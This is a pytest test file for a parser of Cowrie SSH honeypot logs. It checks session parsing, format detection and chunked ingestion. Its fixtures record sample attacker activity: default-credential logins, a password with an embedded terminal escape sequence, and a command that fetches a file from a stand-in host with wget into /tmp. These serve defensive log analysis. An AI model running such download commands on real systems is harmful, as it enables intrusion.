"""The `cowrie` format: Cowrie honeypot JSON, literal lines in, events out."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from engine.formats import detect_format, get_format, parse_lines
from engine.formats.cowrie import REJECT_JSON
from engine.ingest import ingest
from store.case import Case

FMT = get_format("cowrie")

CONNECT = ('{"eventid": "cowrie.session.connect", "src_ip": "203.0.113.9", "src_port": 40100, '
           '"timestamp": "2026-08-13T00:00:00.000000Z", "dst_ip": "172.17.0.3", "dst_port": 2222, '
           '"protocol": "ssh", "session": "s1", "sensor": "hp1", "message": "New connection"}')


def rec(eventid: str, **kw: Any) -> str:
    return json.dumps({"eventid": eventid, "timestamp": "2026-08-13T00:00:01.000000Z", "src_ip": "203.0.113.9",
                       "session": "s1", "sensor": "hp1"} | kw)


def check(r: dict[str, Any], expect: dict[str, Any]) -> None:
    assert {k: r.get(k) for k in expect} == dict(expect), r["raw"]


@pytest.mark.parametrize("i", range(len(FMT.samples)))
def test_every_sample(i: int) -> None:
    s = FMT.samples[i]
    (r,) = parse_lines(FMT, [s.line])
    check(r, dict(s.expect))


def test_a_session_from_connect_to_close() -> None:
    lines = [
        CONNECT,
        rec("cowrie.client.version", version="SSH-2.0-libssh2_1.8.0"),
        rec("cowrie.login.failed", username="root", password="123456"),
        rec("cowrie.login.success", username="root", password="admin\x1b[31m"),
        rec("cowrie.command.input", input="uname -a; wget http://198.51.100.7/x -O /tmp/x"),
        rec("cowrie.session.file_download", url="http://198.51.100.7/x", shasum="ab" * 32, outfile="dl/ab"),
        rec("cowrie.session.closed", duration=12.5),
    ]
    rows = parse_lines(FMT, lines)
    assert [r["action"] for r in rows] == [
        "session_connect", "client_version", "auth_password", "auth_password", "command_input",
        "session_file_download", "session_closed"]
    # Cowrie logs the source port only on connect: every event of the session gets it.
    assert {r["src_port"] for r in rows} == {40100}
    assert {r["dst_port"] for r in rows} == {2222}
    check(rows[2], {"outcome": "failure", "user": "root", "password": "123456", "session": "s1"})
    # A password is kept as the attacker sent it (escape and all): shown escaped, never interpreted.
    check(rows[3], {"outcome": "success", "password": "admin\x1b[31m"})
    check(rows[4], {"command": "uname -a; wget http://198.51.100.7/x -O /tmp/x"})
    check(rows[5], {"url": "http://198.51.100.7/x", "file_hash": "ab" * 32})
    check(rows[1], {"user_agent": "SSH-2.0-libssh2_1.8.0"})
    check(rows[6], {"duration": 12.5})


def test_detection_and_rejects() -> None:
    fmt, score = detect_format([CONNECT, rec("cowrie.login.failed", username="a", password="b")])
    assert fmt is FMT and score == 1.0
    assert FMT.detect(['{"event_type": "alert", "timestamp": "x"}']) == 0.0
    (r,) = parse_lines(FMT, ['{"eventid": "cowrie.login.failed", '])
    assert r["_reject"] == REJECT_JSON


def test_source_port_crosses_chunk_edges(tmp_path: Path) -> None:
    log = tmp_path / "cowrie.json"
    log.write_text(CONNECT + "\n" + "\n".join(rec("cowrie.login.failed", username="u", password=str(i))
                                              for i in range(50)) + "\n")
    case = Case.open(tmp_path / "c.duckdb")
    try:
        result = ingest(case, [log], chunk_bytes=512)
        assert result.rejected == 0 and result.events == 51
        assert case.con.execute("SELECT count(*) FROM events WHERE src_port = 40100").fetchone()[0] == 51
        assert case.con.execute("SELECT count(DISTINCT password) FROM events WHERE format = 'cowrie'"
                                ).fetchone()[0] == 50
    finally:
        case.close()
